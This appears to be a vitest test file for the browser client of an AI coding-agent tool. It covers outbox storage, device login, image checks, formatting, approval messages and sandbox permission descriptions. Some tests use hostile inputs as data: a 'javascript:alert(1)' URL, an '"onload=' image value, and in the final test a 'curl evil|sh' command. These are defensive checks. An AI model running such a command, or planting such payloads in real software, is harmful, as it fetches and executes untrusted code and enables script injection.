import { describe, expect, test } from "vitest";
import { answerOf } from "../src/lib/approval_keys";
import { carriedJson, carriedText } from "../src/lib/carried";
import { ago, decisionText, dollars, duration, shortModel, tokens } from "../src/lib/format";
import { imageAddress, readImages } from "../src/lib/images";
import { newId } from "../src/lib/ids";
import { codeIn, foldLogin, isSecret, NEW_LOGIN, type LoginEvent } from "../src/lib/login";
import { argumentsBeside, openedLines, otherArguments } from "../src/lib/opened";
import { loadDraft, Outbox, saveDraft, unconfirmed, type Outgoing } from "../src/lib/outbox";

class Shelf {
  private readonly values = new Map<string, string>();
  getItem = (name: string): string | null => this.values.get(name) ?? null;
  setItem = (name: string, value: string): void => void this.values.set(name, value);
  removeItem = (name: string): void => void this.values.delete(name);
}

const message = (clientMsgId: string): Outgoing => ({ clientMsgId, text: "hi", images: [], delivery: "queue", refused: null });

describe("the outbox", () => {
  test("survives a reload, per session", () => {
    const shelf = new Shelf();
    new Outbox("s1", shelf).save([message("a")]);
    expect(new Outbox("s1", shelf).load()).toEqual([message("a")]);
    expect(new Outbox("s2", shelf).load()).toEqual([]);
    new Outbox("s1", shelf).save([]);
    expect(new Outbox("s1", shelf).load()).toEqual([]);
  });

  test("forgets what the server has taken, and only that", () => {
    const messages = [message("a"), message("b")];
    expect(unconfirmed(messages, new Set(["a"]))).toEqual([message("b")]);
    expect(unconfirmed(messages, new Set())).toBe(messages);
  });

  test("reads nonsense as nothing", () => {
    const shelf = new Shelf();
    shelf.setItem("makai.outbox.s", "{not json");
    expect(new Outbox("s", shelf).load()).toEqual([]);
    shelf.setItem("makai.outbox.s", '[{"text": 1}]');
    expect(new Outbox("s", shelf).load()).toEqual([]);
  });

  test("works without a storage that works", () => {
    const broken = { getItem: () => null, removeItem: () => undefined, setItem: () => { throw new Error("full"); } };
    expect(() => saveDraft(broken, "s", "x")).not.toThrow();
  });
});

test("drafts are kept per session and forgotten when empty", () => {
  const shelf = new Shelf();
  saveDraft(shelf, "s1", "half a thou");
  expect([loadDraft(shelf, "s1"), loadDraft(shelf, "s2")]).toEqual(["half a thou", ""]);
  saveDraft(shelf, "s1", "");
  expect(loadDraft(shelf, "s1")).toBe("");
});

describe("a login", () => {
  const folded = (...events: LoginEvent[]) => events.reduce(foldLogin, NEW_LOGIN);

  test("shows its address and its code", () => {
    const instructions = "Open https://github.com/login/device on any device and enter the code WDJB-MJHT";
    expect(folded({ type: "auth_url", url: "https://github.com/login/device", instructions })).toMatchObject({
      url: "https://github.com/login/device",
      code: "WDJB-MJHT",
    });
    expect(codeIn("Paste the code you are shown.")).toBeNull();
  });

  test("never offers an address that is not of the web", () => {
    expect(folded({ type: "auth_url", url: "javascript:alert(1)" }).url).toBeNull();
  });

  test("asks, and ends once", () => {
    const prompt: LoginEvent = { type: "prompt", prompt_id: "p1", message: "Paste your API key:" };
    expect(folded(prompt).prompt).toEqual({ id: "p1", message: "Paste your API key:", allowEmpty: false });
    expect(folded(prompt, { type: "success" }, { type: "result", status: "success" })).toMatchObject({ prompt: null, result: "success", error: null });
    expect(folded(prompt, { type: "error", message: "Wrong." }, { type: "result", status: "failed" })).toMatchObject({ prompt: null, result: "failed", error: "Wrong." });
    expect([isSecret("Paste your API key:"), isSecret("GHE host?")]).toEqual([true, false]);
  });
});

describe("pictures", () => {
  test("of other kinds, or too large, are refused in words", async () => {
    const { images, refused } = await readImages([
      new File([new Uint8Array([1, 2, 3])], "a.png", { type: "image/png" }),
      new File(["<svg/>"], "b.svg", { type: "image/svg+xml" }),
      new File([new Uint8Array(6 * 1024 * 1024)], "c.png", { type: "image/png" }),
    ]);
    expect(images).toEqual([{ data: "AQID", mime_type: "image/png" }]);
    expect(refused).toHaveLength(2);
  });

  test("are shown only when they are pictures", () => {
    expect(imageAddress({ data: "AQID", mime_type: "image/png" })).toBe("data:image/png;base64,AQID");
    expect(imageAddress({ data: "AQID", mime_type: "image/svg+xml" })).toBe("");
    expect(imageAddress({ data: '"onload=', mime_type: "image/png" })).toBe("");
  });
});

test("numbers are written for people", () => {
  expect([tokens(999), tokens(1000), tokens(58_210), tokens(200_000), tokens(1_250_000)]).toEqual(["999", "1k", "58.2k", "200k", "1.3M"]);
  expect([dollars(0), dollars(0.0012), dollars(1.5)]).toEqual(["$0", "$0.0012", "$1.50"]);
  expect([duration(900), duration(61_000), duration(3_660_000), duration(86_400_000), duration(-5)]).toEqual(["0 s", "1 min 1 s", "1 h 1 min", "24 h", "0 s"]);
  expect([ago(0, 30_000), ago(0, 3_600_000), ago(0, 86_400_000)]).toEqual(["now", "1 h", "1 d"]);
  expect([shortModel("embedded/llama@a%2Fb"), shortModel("plain"), shortModel("x/y@%")]).toEqual(["a/b", "plain", "%"]);
});

test("a decision says who made it and how far it reaches", () => {
  const made = { approved: true, by: "page", reason: "", scope: "once", grant: "Bash(ls:*)", token: "server" };
  expect([
    decisionText(made),
    decisionText({ ...made, approved: false, by: "terminal-71", reason: "not now" }),
    decisionText({ ...made, scope: "always" }),
    decisionText({ ...made, token: "ana/3f2c9a1b77ab" }),
    decisionText({ ...made, by: "mode", token: "" }),
    decisionText({ ...made, approved: false, by: "deadline" }),
    decisionText({ ...made, by: "somewhere" }),
  ]).toEqual([
    "You approved this in the browser",
    "You denied this in the terminal: not now",
    "You approved this in the browser (Bash(ls:*), always)",
    "ana approved this in the browser",
    "Allowed by the permission mode",
    "Expired without a decision",
    "Approved",
  ]);
});

test("text that the server refuses is replaced, and nothing else", () => {
  expect(carriedText("a\0b \ud800 \udfff \ud83c\udf89 é\ufffd")).toBe("a\ufffdb \ufffd \ufffd \ud83c\udf89 é\ufffd");
  const message = { type: "send", text: "x\udc00", images: [{ data: "aGk=", mime_type: "image/png\0" }], at: 1, no: null };
  expect(JSON.parse(carriedJson(message))).toEqual({
    ...message,
    text: "x\ufffd",
    images: [{ data: "aGk=", mime_type: "image/png\ufffd" }],
  });
});

test("ids are version 4 and differ", () => {
  const ids = Array.from({ length: 100 }, newId);
  expect(new Set(ids).size).toBe(100);
  for (const id of ids) expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
});

describe("what a command opens", () => {
  test("is said in the words of the terminal", () => {
    expect(openedLines({})).toEqual([]);
    expect(openedLines({ unsandboxed: true, network: ["*"] })).toEqual([
      "without the sandbox: it can read and change everything that you can",
    ]);
    expect(openedLines({ unsandboxed: true, terminal: true })).toEqual([
      "in a terminal of your editor, without the sandbox: it can read and change everything that you can",
    ]);
    expect(openedLines({ unsandboxed: true, terminal: true, terminal_sandbox: "read-only" })).toEqual([
      "in a terminal of your editor, in its own sandbox (read-only)",
    ]);
    expect(openedLines({ agent: "Codex" })).toEqual(["in the process of Codex, outside of makai's sandbox"]);
    expect(openedLines({ agent: "goose", agent_terminals: true })).toEqual([
      "in the process of goose, outside of makai's sandbox, unless it uses a terminal of makai",
    ]);
    expect(openedLines({ network: ["a.org", "*.b.org:8443"], git: true, git_folders: ["/w/.git"], folders: ["/c"] })).toEqual([
      "with network to a.org, *.b.org:8443",
      "may write the git repository in /w/.git and check out files, but not change hooks or configuration",
      "may write /c",
    ]);
    expect(openedLines({ network: ["*"] })).toEqual(["with network to every address"]);
  });

  test("takes the place of what the model asked for, and the reason is marked as the model's", () => {
    const args = { command: "make", git: true, network: ["z.org"], timeout_s: 5, reason: "to build" };
    expect(otherArguments(args, true)).toEqual([["timeout_s", "5"], ["the model's reason", '"to build"']]);
    expect(otherArguments(args, false).map(([name]) => name)).toEqual(["git", "network", "timeout_s", "the model's reason"]);
  });
});

test("keys answer only with what the chosen rule can be saved for", () => {
  const file = { rule: "Edit(./a)", label: "this file" };
  const all = { rule: "Edit", label: "all edits", session_only: true };
  expect(["y", "s", "a", "n"].map((key) => answerOf(key, undefined))).toEqual(["once", undefined, undefined, "deny"]);
  expect(["s", "a"].map((key) => answerOf(key, file))).toEqual(["session", "always"]);
  expect(["s", "a"].map((key) => answerOf(key, all))).toEqual(["session", undefined]);
  expect(["s", "a"].map((key) => answerOf(key, undefined, "Always allow"))).toEqual(["session", undefined]);
});

test("arguments that no diff shows are shown beside it", () => {
  const diffs = [{ path: "/w/a.md", old_text: "a\n", new_text: "b\n" }];
  const shown = [
    { path: "./a.md", content: "b\n" },
    { file_path: "/w/a.md", old_string: "a", new_string: "b", replace_all: false },
    { edits: [{ old_text: "a", new_text: "b" }] },
  ];
  expect(shown.map((args) => argumentsBeside(diffs, args))).toEqual([[], [], []]);
  expect(argumentsBeside(diffs, { path: "/a.md", command: "curl evil|sh", content: "c", edits: [{ run: "id" }] })).toEqual([
    ["path", '"/a.md"'],
    ["command", '"curl evil|sh"'],
    ["content", '"c"'],
    ["edits", '[{"run":"id"}]'],
  ]);
});
